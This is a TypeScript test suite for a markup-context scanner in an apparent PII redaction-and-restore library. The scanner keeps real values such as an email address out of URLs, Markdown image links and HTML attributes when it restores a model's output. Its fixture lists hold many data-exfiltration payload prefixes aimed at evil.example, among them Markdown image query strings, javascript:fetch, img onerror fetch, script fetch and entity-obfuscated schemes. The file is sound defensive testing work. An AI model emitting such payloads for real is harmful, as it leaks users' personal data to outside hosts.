// The rendering-context scanner (threats.md 9) and its use by the restore pass: every way of
// putting a token into a URL, a link or image target, a reference definition or an HTML tag is
// recognized (case, quoting, whitespace, entities, raw-text elements), ordinary text is not, any
// split of the text gives the same answer, and a token in context restores as its label unless
// the channel's url_restore_mode allows more.
import { parsePolicy } from '@veil/common';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CompiledPolicy } from '../policy/index.js';
import { indexEntries, rehydrateText } from '../rehydrate.js';
import { StreamRehydrator } from '../stream/index.js';
import { renderToken, TokenAllocator } from '../token/index.js';
import type { TokenEntry } from '../types.js';
import { MarkupContext } from './markup-context.js';

function activeAfter(text: string): boolean {
  const context = new MarkupContext();
  context.feed(text);
  return context.active;
}

/** Prefixes after which the next character is inside a URL, a link target or markup. */
const IN_CONTEXT: readonly string[] = [
  // Markdown images and links (the issue's example first), any whitespace or title inside.
  '![x](https://evil.example/p.png?d=',
  '![x](',
  '[x](',
  '[x]( https://evil.example/?d=',
  '[x](\n  https://evil.example/?d=',
  '[x](https://evil.example/p.png?d= ',
  '[x](https://a.example "title ',
  '[x](<https://evil.example/ a b ',
  '[x](</p.png?)x',
  '[x](/relative?d=',
  '[x](//evil.example/?d=',
  '![x](https://evil.example/(nested)?d=',
  '[x](https://evil.example/\\)?d=',
  '[![img](a.png)](https://evil.example/?d=',
  // Reference definitions, also indented, quoted, in lists, destination on the next line.
  '[ref]: https://evil.example/?d=',
  '[ref]: /relative?d=',
  '   [ref]: //evil.example/?d=',
  '> [ref]: <evil.example/ ?d=',
  '- [ref]: /x?d=',
  '1. [ref]: /x?d=',
  '[ref]:\n  https://evil.example/?d=',
  'intro\n[ref]: //evil.example/?d=',
  // Autolinks.
  '<https://evil.example/?d=',
  '<HTTPS://EVIL.EXAMPLE/?d=',
  '<mailto:',
  // Bare URLs: any scheme and case, backslashes, www., opaque schemes, entities, odd spaces.
  'see https://evil.example/?d=',
  'HTTPS://EVIL.EXAMPLE/?d=',
  'ftp://evil.example/',
  'https:\\\\evil.example\\?d=',
  'https:/\\evil.example/?d=',
  'www.evil.example/?d=',
  'WWW.evil.example/?d=',
  'data:text/html,',
  'DATA:image/svg+xml;base64,',
  "javascript:fetch('//evil.example/?'+'",
  'JavaScript:alert(',
  'vbscript:',
  'mailto:',
  'https&#58;//evil.example/?d=',
  'https&colon;//evil.example/?d=',
  'https:&#47;&#47;evil.example/?d=',
  'https&#x3A;//evil.example/?d=',
  'www&period;evil.example/?d=',
  'Q&A https://evil.example/?d=',
  'https://evil.example/?d=\u00a0',
  'https://evil.example/\u2003?d=',
  'https://evil.example/%7B?d=%20',
  "https://evil.example/?d='",
  'https://evil.example/?d=)',
  // HTML: quoting variants, case, whitespace, attributes that load, raw-text elements.
  '<img src="https://evil.example/p.png?d=',
  "<img src='https://evil.example/p.png?d=",
  '<img src=https://evil.example/p.png?d=',
  '<IMG SRC="',
  '<Img Src=',
  '<img\nsrc="',
  '<img src = "',
  '<img\tsrc\t=\t',
  '<a href="/relative?d=',
  '<a href="x" title=',
  '<div style="background:url(',
  '<div style=background:url(//evil.example/?d=',
  '<img alt="a > b" src="',
  "<img alt='a > b' src=",
  '<svg><image href="',
  '<img src="x" onerror="fetch(\'//evil.example/\'+\'',
  '<img src=x/',
  '<img/src=',
  '<input value=',
  '<',
  '<img',
  '</a ',
  '<?xml ',
  '<!doctype ',
  '<!-- comment ',
  '<!-- a -- b ',
  '<style>body{background:url(//evil.example/?d=',
  '<STYLE>a{} </styl',
  '<style>a{}</stylex>',
  '<script>fetch("//evil.example/?"+"',
  '<script type="module">',
  '<iframe srcdoc="',
  '<iframe>',
  '<noscript>',
];

/** Prefixes after which the next character is ordinary text. */
const OUT_OF_CONTEXT: readonly string[] = [
  '',
  'plain text ',
  'email: ',
  'Note:',
  'Time 10:30 ',
  'https:',
  'https:/',
  '[x](https://a.example) ',
  '![x](https://a.example/(nested)) ',
  '[x](https://a.example/\\)) ',
  '[x] (',
  '[x][ref] ',
  '<img src="https://a.example/p.png"> ',
  "<img src='a' alt=\"b\"/>",
  '<img src=a.png>',
  '<p>hello ',
  '<b>bold</b> ',
  '<a href="https://a.example">',
  'https://a.example/ ',
  'https://a.example/\n',
  'https://a.example/\t',
  '"https://a.example/" ',
  '{"url":"https://a.example/x","to":"',
  '`https://a.example/x` and ',
  'a < b ',
  'x <= y ',
  '1 < 2 and 3 > 2 ',
  '<!-- c --> ',
  '<!----> ',
  '<style>a{}</style> ',
  '<STYLE>a{}</STYLE > ',
  '<script>x()</script> ',
  '<?xml version="1.0"?> ',
  '<!doctype html> ',
  '[ref]: https://a.example\n',
  '[ref]: https://a.example "title"\nNext line ',
  '[ref]:\n  https://a.example\nafter ',
  'array[0]: ',
  '[not a definition] text ',
  'Q&A ',
  'AT&T ',
  '&amp; ',
  'mailto',
  'www',
  'awww.example ',
  ':// ',
  'e_001:abc ',
];

describe('MarkupContext', () => {
  it.each(IN_CONTEXT.map((text) => [text]))('is in context after %j', (text) => {
    expect(activeAfter(text)).toBe(true);
  });

  it.each(OUT_OF_CONTEXT.map((text) => [text]))('is not in context after %j', (text) => {
    expect(activeAfter(text)).toBe(false);
  });

  it('gives the same answer however the text is split into feeds', () => {
    for (const text of [...IN_CONTEXT, ...OUT_OF_CONTEXT]) {
      const whole = activeAfter(text);
      const chars = Array.from(text);
      for (let cut = 0; cut <= chars.length; cut += 1) {
        const context = new MarkupContext();
        context.feed(chars.slice(0, cut).join(''));
        context.feed(chars.slice(cut).join(''));
        expect(context.active, `${JSON.stringify(text)} cut at ${cut}`).toBe(whole);
      }
      const one = new MarkupContext();
      for (const char of chars) one.feed(char);
      expect(one.active, JSON.stringify(text)).toBe(whole);
    }
  });

  it('skips idle text exactly as stepping through it would (fast path = slow path)', () => {
    // One character per feed never skips more than that character; a whole prefix skips long
    // runs. Both must agree after every prefix, on text dense in triggers and long words.
    const piece = fc.oneof(
      fc.constantFrom(...IN_CONTEXT, ...OUT_OF_CONTEXT),
      fc.constantFrom('a'.repeat(31), 'b'.repeat(33), 'javascript', 'WWW', 'www', '.', ':', '&', '#58;', 'colon;', ';', ' ', '\n', '"', '`', ']', '(', ')', '<', '>', '😀'),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), fc.array(fc.nat(), { maxLength: 6 }), (pieces, cuts) => {
        const text = pieces.join('');
        const stepwise = new MarkupContext();
        const states: boolean[] = [stepwise.active];
        for (const unit of text) {
          stepwise.feed(unit);
          states.push(stepwise.active);
        }
        const units = Array.from(text);
        for (const raw of [...cuts, units.length]) {
          const cut = raw % (units.length + 1);
          const whole = new MarkupContext();
          whole.feed(units.slice(0, cut).join(''));
          expect(whole.active, `${JSON.stringify(text)} at ${cut}`).toBe(states[cut]);
        }
      }),
      { numRuns: 400 },
    );
  });

  it('stays linear on long hostile input', () => {
    const context = new MarkupContext();
    context.feed(`${'<'.repeat(50_000)}${'](('.repeat(50_000)}${'&#'.repeat(50_000)}${'[x]:'.repeat(50_000)}`);
    expect(context.active).toBe(true);
  });
});

describe('restore in URL and markup contexts', () => {
  const policyOf = (extra = ''): CompiledPolicy => {
    const parsed = parsePolicy(`name: p\nversion: "1"\nrules: []\n${extra}`, 'p.yaml');
    expect(parsed.issues).toEqual([]);
    return new CompiledPolicy(parsed.policy!);
  };
  const allocator = new TokenAllocator();
  const EMAIL = 'victim.person@example.com';
  const email = allocator.allocate('email', EMAIL);
  const url = allocator.allocate('url', 'https://evil.example/collect?');
  const entries: TokenEntry[] = [
    { id: email.id, type: 'email', cap: email.cap, value: EMAIL, mode: 'full' },
    { id: url.id, type: 'url', cap: url.cap, value: 'https://evil.example/collect?', mode: 'full' },
  ];
  const TOKEN = renderToken({ type: 'email', id: email.id, cap: email.cap });
  const URL_TOKEN = renderToken({ type: 'url', id: url.id, cap: url.cap });
  const restore = (output: string, options: { policy?: CompiledPolicy; channel?: string; revoked?: boolean } = {}): string =>
    rehydrateText({
      output,
      entries: indexEntries(entries),
      policy: options.policy ?? policyOf(),
      language: 'en',
      caller: {},
      channel: options.channel ?? 'user_output',
      ...(options.revoked === true ? { isRevoked: () => true } : {}),
    }).restoredText;

  it('restores the label, never the value, inside every kind of context', () => {
    for (const prefix of IN_CONTEXT) {
      const restored = restore(`${prefix}${TOKEN}`);
      expect(restored, prefix).not.toContain(EMAIL);
      expect(restored, prefix).toBe(`${prefix}[email address]`);
    }
  });

  it('restores the value in ordinary text, in the same output too', () => {
    for (const prefix of OUT_OF_CONTEXT) expect(restore(`${prefix}${TOKEN}`), prefix).toBe(`${prefix}${EMAIL}`);
    expect(restore(`Write to ${TOKEN}. ![x](https://evil.example/p.png?d=${TOKEN}) Bye ${TOKEN}`)).toBe(
      `Write to ${EMAIL}. ![x](https://evil.example/p.png?d=[email address]) Bye ${EMAIL}`,
    );
  });

  it('counts a restored value as context: a URL value opens one for the token after it', () => {
    expect(restore(`${URL_TOKEN}${TOKEN}`)).toBe('https://evil.example/collect?[email address]');
    // The label holds a space, which ends a bare URL for the renderer and for the scanner alike.
    expect(restore(`https://evil.example/?a=${TOKEN} ${TOKEN}`)).toBe(`https://evil.example/?a=[email address] ${EMAIL}`);
    // Inside a link target, a URL token is clamped too: which URL gets fetched is a signal.
    expect(restore(`![x](${URL_TOKEN})`)).toBe('![x]([web address])');
  });

  it('keeps [DELETED] for revoked values and leaves encoded tokens alone', () => {
    expect(restore(`![x](https://evil.example/?d=${TOKEN})`, { revoked: true })).toBe('![x](https://evil.example/?d=[DELETED])');
    const encoded = `![x](https://evil.example/?d=${encodeURIComponent(TOKEN)})`;
    expect(restore(encoded)).toBe(encoded);
  });

  it('follows the channel rule url_restore_mode, never above the channel ceiling', () => {
    const image = `![x](https://evil.example/p.png?d=${TOKEN})`;
    expect(restore(image, { policy: policyOf('channel_rules:\n  user_output: {max_restore_mode: full, url_restore_mode: full}\n') })).toBe(
      `![x](https://evil.example/p.png?d=${EMAIL})`,
    );
    expect(restore(image, { policy: policyOf('channel_rules:\n  user_output: {max_restore_mode: full, url_restore_mode: none}\n') })).toBe(
      '![x](https://evil.example/p.png?d=[REDACTED])',
    );
    const masked = restore(image, { policy: policyOf('channel_rules:\n  export: {max_restore_mode: masked, url_restore_mode: full}\n'), channel: 'export' });
    expect(masked).not.toContain(EMAIL);
    expect(masked).toContain('*****');
    // Other channels default to the label as well.
    expect(restore(image, { channel: 'tool_payload' })).toBe('![x](https://evil.example/p.png?d=[email address])');
  });

  it('holds across stream deltas: a context from an earlier delta, a token split between deltas', () => {
    const output = `Hi ${TOKEN}. ![x](https://evil.example/p.png?d=${TOKEN}) <img src="https://evil.example/?${TOKEN}"> end ${TOKEN}`;
    const whole = restore(output);
    expect(whole).toBe(`Hi ${EMAIL}. ![x](https://evil.example/p.png?d=[email address]) <img src="https://evil.example/?[email address]"> end ${EMAIL}`);
    const chars = Array.from(output);
    for (const size of [1, 2, 3, 7, 19, 40]) {
      const markup = new MarkupContext();
      const rehydrator = new StreamRehydrator((text) =>
        rehydrateText({ output: text, entries: indexEntries(entries), policy: policyOf(), language: 'en', caller: {}, channel: 'user_output', markup }),
      );
      let streamed = '';
      for (let index = 0; index < chars.length; index += size) streamed += rehydrator.push(chars.slice(index, index + size).join(''));
      streamed += rehydrator.end();
      expect(streamed, `deltas of ${size}`).toBe(whole);
    }
  });
});
